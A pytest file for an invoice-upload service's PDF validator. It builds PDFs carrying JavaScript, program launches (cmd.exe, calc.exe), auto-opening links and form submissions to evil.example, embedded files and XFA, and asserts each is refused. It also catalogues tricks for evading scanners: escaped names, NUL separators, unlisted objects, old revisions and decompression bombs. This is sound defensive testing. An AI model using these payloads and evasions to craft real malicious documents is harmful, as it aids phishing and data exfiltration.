"""PDFs with active content (scripts, launches, links that open by themselves, forms that
send data, XFA, embedded files, media) are refused wherever it hides: nested inside
compressed object streams, behind #-escaped names, without the optional /Type, in page and
annotation actions, in objects the cross-reference index leaves out. A clean invoice passes
and reaches the customer byte for byte."""

from __future__ import annotations

import re
import time
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chalicelib.errors import Invalid
from chalicelib.services.billing import documents
from chalicelib.services.billing.documents import MAX_DEPTH, MAX_OBJECTS, check_pdf
from portway_ops.pdf import object_stream_pdf, simple_pdf
from tests.conftest import problem
from tests.services.billing.test_documents import PDF, listed, new_contract, stored_blobs, upload

# -- building PDFs -------------------------------------------------------------------------


def stream(data: bytes, *, entries: bytes = b"", compress: bool = False) -> bytes:
    """The body of a stream object (a stream cannot be inside an object stream)."""
    if compress:
        data = zlib.compress(data)
        entries += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def invoice_objects(
    catalog: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None
) -> dict[int, bytes]:
    """A one-page invoice's objects: catalog 1, pages 2, page 3, contents 4, font 5, and
    `extra` from 6 on."""
    text = b"BT /F1 12 Tf 72 760 Td (Invoice R-1: 49.00 EUR) Tj ET"
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        4: stream(text, compress=True),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        **(extra or {}),
    }


def packed(objects: dict[int, bytes], *, unlisted: tuple[int, ...] = ()) -> bytes:
    """The objects in a PDF whose every object but the streams sits in a compressed object
    stream (so no name of theirs appears in the file's bytes)."""
    inside = tuple(number for number, body in objects.items() if b"\nstream\n" not in body)
    return object_stream_pdf(objects, compressed=inside, unlisted=unlisted)


def compressed_pdf(
    catalog: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None
) -> bytes:
    """invoice_objects() packed into a compressed object stream."""
    return packed(invoice_objects(catalog, page, extra))


def plain_pdf(catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF with a cross-reference table and nothing compressed."""
    return simple_pdf("Invoice R-1", catalog=catalog, page=page, extra=extra)


def link(action: bytes) -> bytes:
    """A link annotation (a clickable area) doing `action`."""
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A " + (
        action + b" >>"
    )


def clean_invoice() -> bytes:
    """What an invoice generator writes: Info, XMP metadata, an embedded-style font with its
    descriptor and widths, outlines, page labels, an internal link, opening at page one (a
    plain destination array), everything but the streams in a compressed object stream."""
    widths = b"[" + b" ".join(b"556" for _ in range(224)) + b"]"
    xmp = b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>'
    text = b"\n".join(
        b"BT /F1 11 Tf 72 %d Td (Line %d: Fleet Pro, 49.00 EUR) Tj ET" % (760 - 14 * i, i)
        for i in range(40)
    )
    return packed(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] "
            b"/PageMode /UseOutlines /Outlines 9 0 R /PageLabels << /Nums [0 << /S /D >>] >> "
            b"/Metadata 8 0 R /ViewerPreferences << /DisplayDocTitle true >> /Lang (de-DE) >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /ProcSet [/PDF /Text] >> "
            b"/Group << /S /Transparency /CS /DeviceRGB >> /Annots [11 0 R] >>",
            4: stream(text, compress=True),
            5: b"<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Arial /FirstChar 32 "
            b"/LastChar 255 /Widths " + widths + b" /FontDescriptor 6 0 R "
            b"/Encoding /WinAnsiEncoding >>",
            6: b"<< /Type /FontDescriptor /FontName /ABCDEF+Arial /Flags 32 "
            b"/FontBBox [-665 -325 2000 1006] /ItalicAngle 0 /Ascent 905 /Descent -212 "
            b"/CapHeight 716 /StemV 80 /FontFile2 7 0 R >>",
            7: stream(b"\x00\x01\x00\x00" + bytes(range(256)) * 8, compress=True),
            8: stream(xmp, entries=b" /Type /Metadata /Subtype /XML"),
            9: b"<< /Type /Outlines /First 10 0 R /Last 10 0 R /Count 1 >>",
            10: b"<< /Title (Invoice R-1) /Parent 9 0 R /Dest [3 0 R /Fit] >>",
            11: link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
            12: b"<< /Title (Invoice R-1, pay by JavaScript-free transfer) "
            b"/Producer (Portway tests) /CreationDate (D:20260701120000Z) >>",
        }
    )


# Each form of active content through the upload route, and a word of the reason the
# provider reads (the answer names what was found).
UPLOAD_FORMS: dict[str, tuple[bytes, str]] = {
    "javascript nested in a compressed object stream": (
        compressed_pdf(
            b"/Names << /JavaScript << /Names [(go) << /S /JavaScript /JS (1) >>] >> >>"
        ),
        "JavaScript",
    ),
    "launch nested in a compressed object stream": (
        compressed_pdf(page=b"/Annots [" + link(b"<< /S /Launch /F (cmd.exe) >>") + b"]"),
        "starts programs",
    ),
    "xfa nested in a compressed object stream": (
        compressed_pdf(
            b"/AcroForm << /Fields [] /XFA 6 0 R >>",
            extra={6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
        ),
        "XFA",
    ),
    "embedded file nested in a compressed object stream": (
        compressed_pdf(
            b"/Names << /EmbeddedFiles << /Names [(invoice.xml) "
            b"<< /Type /Filespec /F (invoice.xml) /EF << /F 6 0 R >> >>] >> >>",
            extra={6: stream(b"<invoice/>", compress=True)},
        ),
        "embedded file",
    ),
    "embedded file spec without /Type": (
        plain_pdf(
            b"/AF [6 0 R]",
            extra=(b"<< /F (data.xml) /UF (data.xml) /EF << /F 7 0 R >> >>", stream(b"<x/>")),
        ),
        "embedded file",
    ),
    "gotor open action (a network share)": (
        plain_pdf(b"/OpenAction << /S /GoToR /F (//fileserver/share/invoice.pdf) /D [0 /Fit] >>"),
        "network share when opened",
    ),
    "uri open action": (
        plain_pdf(b"/OpenAction << /S /URI /URI (https://evil.example/collect) >>"),
        "opens a link, another file or a network share when opened",
    ),
    "uri open action, names escaped": (
        plain_pdf(b"/OpenAction << /#53 /#55R#49 /URI (https://evil.example/collect) >>"),
        "opens a link",
    ),
    "gotor link, names escaped": (
        plain_pdf(page=b"/Annots [6 0 R]", extra=(link(b"<< /S /G#6FTo#52 /F (x.pdf) >>"),)),
        "opens a link",
    ),
    "embedded file key escaped": (
        plain_pdf(b"/AF [6 0 R]", extra=(b"<< /F (a.xml) /E#46 << /F 7 0 R >> >>", stream(b"x"))),
        "embedded file",
    ),
    "javascript escaped, in a compressed object stream": (
        compressed_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "JavaScript",
    ),
    "uri in the page's additional actions": (
        compressed_pdf(page=b"/AA << /O << /S /URI /URI (https://evil.example/seen) >> >>"),
        "opens a link",
    ),
    "uri in a link annotation": (
        plain_pdf(
            page=b"/Annots [6 0 R]", extra=(link(b"<< /S /URI /URI (https://e.example) >>"),)
        ),
        "opens a link",
    ),
    "uri open action, names ended by NUL bytes (whitespace to a reader)": (
        plain_pdf(b"/OpenAction << /S\x00/URI\x00/URI (https://evil.example/collect) >>"),
        "opens a link",
    ),
    "javascript in the page's additional actions, key ended by NUL, compressed": (
        compressed_pdf(page=b"/AA\x00<< /O << /S /JavaScript /JS (app.alert(1)) >> >>"),
        "JavaScript on page or form events",
    ),
    "named action on open": (
        plain_pdf(b"/OpenAction << /S /Named /N /Print >>"),
        "named actions",
    ),
}


@pytest.fixture
def contract_id(api) -> str:
    return new_contract(api)


@pytest.mark.parametrize("form", list(UPLOAD_FORMS))
def test_active_content_upload_is_422_naming_it_and_nothing_is_stored(api, contract_id, form):
    data, reason = UPLOAD_FORMS[form]
    before = stored_blobs()
    answer = upload(api, contract_id, data)
    assert answer.status_code == 422, answer.json_body
    errors = problem(answer)["errors"]
    assert [e["field"] for e in errors] == ["body"]
    assert reason in errors[0]["message"], errors
    assert listed(api, contract_id) == []
    assert api.get(f"/v1/contracts/{contract_id}").json_body["document_count"] == 0
    assert stored_blobs() == before


def test_a_clean_compressed_invoice_is_201_and_downloads_byte_for_byte(api, contract_id):
    data = clean_invoice()
    assert b"/ObjStm" in data
    assert b"/OpenAction" not in data  # the catalog is compressed
    answer = upload(api, contract_id, data)
    assert answer.status_code == 201, answer.json_body
    assert answer.json_body["pages"] == 1
    assert [d["id"] for d in listed(api, contract_id)] == [answer.json_body["id"]]
    path = f"/v1/contracts/{contract_id}/documents/{answer.json_body['id']}"
    download = api.get(path, headers={"Accept": PDF})
    assert download.status_code == 200
    assert download.body == data


# -- every kind, checked directly (no storage involved) ------------------------------------


def reason_for(data: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        check_pdf(data)
    assert [e.field for e in refused.value.errors] == ["body"]
    return refused.value.errors[0].message


ACTIONS = {
    "/JavaScript /JS (app.alert(1))": "JavaScript",
    "/Launch /F (calc.exe)": "starts programs",
    "/GoToR /F (other.pdf) /D [0 /Fit]": "opens a link",
    "/GoToE /T << /R /C /N (a) >>": "opens a link",
    "/URI /URI (https://evil.example/)": "opens a link",
    "/Thread /F (other.pdf) /D 0": "opens a link",
    "/SubmitForm /F (https://evil.example/)": "form data",
    "/ImportData /F (data.fdf)": "form data",
    "/ResetForm": "form data",
    "/Named /N /Print": "named actions",
    "/Hide /T (field)": "action (Hide)",
    "/Sound /Sound 6 0 R": "sound, video",
    "/Movie /T (clip)": "sound, video",
    "/Rendition /OP 0": "sound, video",
    "/RichMediaExecute /TA 6 0 R": "sound, video",
    "/GoTo3DView /TA 6 0 R": "action (GoTo3DView)",
}


@pytest.mark.parametrize("action", list(ACTIONS))
@pytest.mark.parametrize("where", ["open action", "link", "indirect link", "compressed link"])
def test_every_kind_of_action_is_refused_wherever_it_is(action, where):
    body = b"<< /S " + action.encode() + b" >>"
    null = b"null"
    if where == "open action":
        data = plain_pdf(b"/OpenAction " + body, extra=(null,))
    elif where == "link":
        data = plain_pdf(page=b"/Annots [" + link(body) + b"]", extra=(null,))
    elif where == "indirect link":
        data = plain_pdf(page=b"/Annots [6 0 R]", extra=(link(b"7 0 R"), body))
    else:
        data = compressed_pdf(page=b"/Annots [" + link(body) + b"]", extra={6: null})
    assert ACTIONS[action] in reason_for(data)


REFUSED = {
    "a /JS key in any dictionary": (plain_pdf(extra=(b"<< /JS (app.alert(1)) >>",)), "JavaScript"),
    "a javascript name tree": (
        plain_pdf(b"/Names << /JavaScript 6 0 R >>", extra=(b"<< /Names [] >>",)),
        "JavaScript",
    ),
    "an embedded file stream nobody points at": (
        plain_pdf(extra=(stream(b"MZ", entries=b" /Type /EmbeddedFile"),)),
        "embedded file",
    ),
    "an empty embedded files tree": (
        compressed_pdf(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        "embedded file",
    ),
    "a file attachment annotation": (
        compressed_pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
            b"/FS (a.exe) >>]"
        ),
        "embedded file",
    ),
    "a rich media annotation": (
        compressed_pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        "sound, video",
    ),
    "a 3D annotation": (
        compressed_pdf(
            page=b"/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]",
            extra={6: stream(b"U3D")},
        ),
        "sound, video",
    ),
    "additional actions of a form field": (
        compressed_pdf(
            b"/AcroForm << /Fields [6 0 R] >>",
            extra={6: b"<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (1) >> >> >>"},
        ),
        "JavaScript on page or form events",
    ),
    "additional actions of any kind": (
        compressed_pdf(page=b"/AA << /C << /S /GoTo /D [3 0 R /Fit] >> >>"),
        "on page or form events",
    ),
    "an action type read through a reference": (
        plain_pdf(b"/OpenAction << /S 6 0 R /URI (https://evil.example/) >>", extra=(b"/URI",)),
        "opens a link",
    ),
    "an action chained after a harmless one": (
        plain_pdf(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://e.x) >>] >>"
        ),
        "opens a link",
    ),
    "an open action in another object, compressed": (
        compressed_pdf(b"/OpenAction 6 0 R", extra={6: b"<< /S /Launch /F (calc.exe) >>"}),
        "starts programs or opens files on the reader's computer when opened",
    ),
    "a key written twice (pypdf keeps the first, other readers the second)": (
        plain_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://e.x) >>"),
        "cannot be read",
    ),
    "a dictionary pypdf reads only in part": (
        plain_pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /X ) /A << /S /URI >> >>]"),
        "cannot be read",
    ),
    "an embedded file key ended by a NUL byte": (
        plain_pdf(b"/AF [6 0 R]", extra=(b"<< /F (a) /EF\x00<< /F 7 0 R >> >>", stream(b"x"))),
        "embedded file",
    ),
    "an unknown action type on open": (
        plain_pdf(b"/OpenAction << /S /SetOCGState /State [/OFF] >>"),
        "action (SetOCGState) when opened",
    ),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_active_content_is_refused_with_its_reason(name):
    data, reason = REFUSED[name]
    assert reason in reason_for(data)


# -- objects the cross-reference index does not list ---------------------------------------


def test_an_object_the_index_leaves_out_is_still_read():
    # pdf.js and Acrobat rebuild a damaged index by scanning for `n 0 obj`: they would find it.
    objects = invoice_objects(extra={6: b"<< /S /JavaScript /JS (app.alert(1)) >>"})
    data = object_stream_pdf(objects, compressed=(1, 2, 3, 5), unlisted=(6,))
    assert "JavaScript" in reason_for(data)


def test_a_compressed_object_the_index_leaves_out_is_still_read():
    objects = invoice_objects(extra={6: b"<< /S /URI /URI (https://evil.example/) >>"})
    data = object_stream_pdf(objects, compressed=(1, 2, 3, 5, 6), unlisted=(6,))
    assert b"/URI" not in data
    assert "opens a link" in reason_for(data)


def test_an_object_whose_header_is_spaced_by_nul_bytes_is_still_read():
    objects = invoice_objects(extra={6: b"<< /S /Launch /F (calc.exe) >>"})
    data = object_stream_pdf(objects, compressed=(1, 2, 3, 5), unlisted=(6,))
    assert "starts programs" in reason_for(data.replace(b"\n6 0 obj", b"\n6\x000\x00obj"))


def test_objects_of_an_object_stream_the_index_does_not_list_are_still_read():
    entries = [(7, b"null"), (8, b"<< /S /JavaScript /JS (app.alert(1)) >>")]
    header = b" ".join(b"%d %d" % (n, 10 * i) for i, (n, _) in enumerate(entries)) + b" "
    data = header + b"".join(body.ljust(10) if len(body) < 10 else body for _, body in entries)
    container = stream(data, entries=b" /Type /ObjStm /N 2 /First %d" % len(header), compress=True)
    objects = invoice_objects(extra={6: container})
    assert "JavaScript" in reason_for(object_stream_pdf(objects, compressed=(1, 2, 3, 5)))


def test_an_action_in_an_earlier_revision_is_still_read():
    # An incremental update replaces the catalog and object 6; a viewer showing the earlier
    # (say, signed) revision, or a reader that rebuilds the index, still has the old ones.
    first = plain_pdf(b"/OpenAction 6 0 R", extra=(b"<< /S /JavaScript /JS (1) >>",))
    previous = int(re.findall(rb"startxref\n(\d+)", first)[-1])
    update = bytearray(first)
    catalog = len(update)
    update += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    replaced = len(update)
    update += b"6 0 obj\nnull\nendobj\n"
    xref = len(update)
    update += (
        b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n6 1\n%010d 00000 n \n"
        b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    ) % (catalog, replaced, previous, xref)
    assert check_pdf(plain_pdf(b"/OpenAction 6 0 R", extra=(b"null",))) == 1
    assert "JavaScript" in reason_for(bytes(update))


def test_a_file_with_a_broken_index_is_read_as_a_reader_repairs_it():
    data = compressed_pdf(b"/OpenAction << /S /URI /URI (https://evil.example/) >>")
    broken = re.sub(rb"startxref\n\d+", b"startxref\n12345", data)
    assert "opens a link" in reason_for(broken)
    clean = re.sub(rb"startxref\n\d+", b"startxref\n12345", clean_invoice())
    assert check_pdf(clean) == 1


# -- harmless things that look alike -------------------------------------------------------

ACCEPTED = {
    "a clean invoice": clean_invoice(),
    "an open action that is a destination array": plain_pdf(b"/OpenAction [3 0 R /Fit]"),
    "an open action that goes to a page": plain_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "a link to a page": plain_pdf(
        page=b"/Annots [" + link(b"<< /S /GoTo /D [3 0 R /Fit] >>") + b"]"
    ),
    "a base URI for relative links": plain_pdf(b"/URI << /Base (https://example.com/) >>"),
    "active words in the text": simple_pdf("Pay /JavaScript /Launch /EmbeddedFiles /AA /URI"),
    "active words in the title": compressed_pdf(
        extra={6: b"<< /Title (/JavaScript /JS /Launch /XFA) /Keywords (/EF /AA) >>"}
    ),
    "an empty additional actions dictionary": compressed_pdf(page=b"/AA << >>"),
    "nesting up to the limit": compressed_pdf(
        b"/Foo " + b"[" * (MAX_DEPTH - 1) + b"1" + b"]" * (MAX_DEPTH - 1)
    ),
}


@pytest.mark.parametrize("name", list(ACCEPTED))
def test_harmless_pdfs_pass(name):
    assert check_pdf(ACCEPTED[name]) == 1


# -- bounds: every byte string is a 201 or a 422 -------------------------------------------


def test_nesting_beyond_the_limit_is_422():
    deep = compressed_pdf(b"/Foo " + b"[" * (MAX_DEPTH + 1) + b"1" + b"]" * (MAX_DEPTH + 1))
    assert "too deeply" in reason_for(deep)
    for depth in (5_000, 200_000):  # beyond Python's recursion limit, in both kinds of object
        bomb = b"<<  /A " * depth + b"1" + b" >>" * depth
        reason_for(compressed_pdf(b"/Foo " + b"[" * depth + b"]" * depth))
        reason_for(plain_pdf(extra=(bomb,)))


def test_more_objects_than_the_limit_is_422():
    objects = invoice_objects(extra={n: b"null" for n in range(6, MAX_OBJECTS + 6)})
    started = time.perf_counter()
    assert "objects" in reason_for(packed(objects))
    assert time.perf_counter() - started < 5


def test_an_object_stream_that_unpacks_to_too_much_is_422_quickly():
    bomb = packed(invoice_objects(extra={6: b"[" + b"0 " * 2_500_000 + b"]"}))
    assert len(bomb) < 50_000
    started = time.perf_counter()
    assert "too large" in reason_for(bomb)
    assert time.perf_counter() - started < 2


def test_object_streams_that_together_unpack_to_too_much_are_422(monkeypatch):
    assert check_pdf(clean_invoice()) == 1
    monkeypatch.setattr(documents, "MAX_UNPACKED_BYTES", 2_000)
    assert "too large" in reason_for(clean_invoice())


def test_dangling_references_are_checked_quickly():
    # pypdf searches the whole file for each reference to an object the file lacks; the check
    # follows the references of actions (here 20,000 of them, after a harmless one).
    dangling = b" ".join(b"%d 0 R" % n for n in range(100_000, 120_000))
    data = plain_pdf(
        b"/Pad (" + b"x" * 1_000_000 + b") "
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + dangling + b"] >>"
    )
    started = time.perf_counter()
    assert check_pdf(data) == 1
    assert time.perf_counter() - started < 5


def test_a_large_invoice_is_checked_in_reasonable_time():
    """About 1 MB with several hundred objects, in compressed object streams: the time it
    takes is the upload's overhead."""
    objects: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    kids = []
    for page in range(150):
        number = 10 + 4 * page
        kids.append(b"%d 0 R" % number)
        lines = b"\n".join(
            b"BT /F1 9 Tf 40 %d Td (Pos %d-%d Wartung Fahrzeug %07d 49,00) Tj ET"
            % (800 - 12 * i, page, i, page * 1000 + i)
            for i in range(60)
        )
        objects[number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> /Annots [%d 0 R %d 0 R] >>"
            % (number + 1, number + 2, number + 3)
        )
        objects[number + 1] = stream(lines + b"\n" + bytes(range(256)) * 12)
        objects[number + 2] = link(b"<< /S /GoTo /D [%d 0 R /Fit] >>" % number)
        objects[number + 3] = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (n) >>"
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count 150 >>"
    data = packed(objects)
    assert 900_000 < len(data) < 1_500_000
    started = time.perf_counter()
    assert check_pdf(data) == 150
    elapsed = time.perf_counter() - started
    print(f"checked {len(data)} bytes, {len(objects)} objects in {elapsed:.3f} s")
    assert elapsed < 5


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_any_damage_to_a_pdf_is_a_422_or_a_pass_never_an_error(data):
    original = data.draw(st.sampled_from([clean_invoice(), UPLOAD_FORMS["uri open action"][0]]))
    start = data.draw(st.integers(0, len(original)))
    end = data.draw(st.integers(start, min(len(original), start + 64)))
    inserted = data.draw(
        st.one_of(
            st.binary(max_size=32),
            st.sampled_from([b"<<", b">>", b"[", b"]", b"0 R", b"1 0 obj", b"stream", b"#"]),
        )
    )
    damaged = original[:start] + inserted + original[end:]
    try:
        check_pdf(damaged)
    except Invalid as refused:  # any other exception fails the test
        errors = refused.errors
        assert [e.field for e in errors] == ["body"]
